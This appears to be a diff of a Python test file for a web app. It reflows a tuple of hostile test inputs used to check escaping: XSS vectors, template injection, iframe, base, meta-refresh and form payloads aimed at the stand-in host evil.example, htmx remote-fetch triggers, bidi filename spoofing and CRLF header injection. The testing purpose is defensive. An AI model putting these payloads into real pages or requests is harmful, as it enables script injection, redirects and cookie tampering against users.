@@ -44,7 +44,8 @@ from dragoman.web.app import make_app
 EVIL = (
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)",
     "</textarea></title><script>x</script>", "{{ 7*7 }}{% raw %}", "javascript:alert(1)", "<style>*{display:none}</style>",
-    "<iframe src=//evil.example></iframe>", "&lt;script&gt;", "<!-- --><![CDATA[ x ]]>", "\u202eexe.txt\u202c", "\u2066\u200f\u200e",
+    "<iframe src=//evil.example></iframe>", "&lt;script&gt;",
+    "<!-- --><![CDATA[ x ]]>", "\u202eexe.txt\u202c", "\u2066\u200f\u200e",
     "a\u0300" * 60, "W" * 1_000, "\x01\x02\x1b[31m", "<a href=//evil.example>", "<base href=//evil.example>", "\ufeff\u2028\u2029",
     "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=q>", "💣👩‍👩‍👧‍👦🏳️‍🌈",
     "hx-get=//evil.example hx-trigger=load", "<div hx-get='//evil.example' hx-trigger=load></div>", "%00%0d%0aSet-Cookie: a=b",
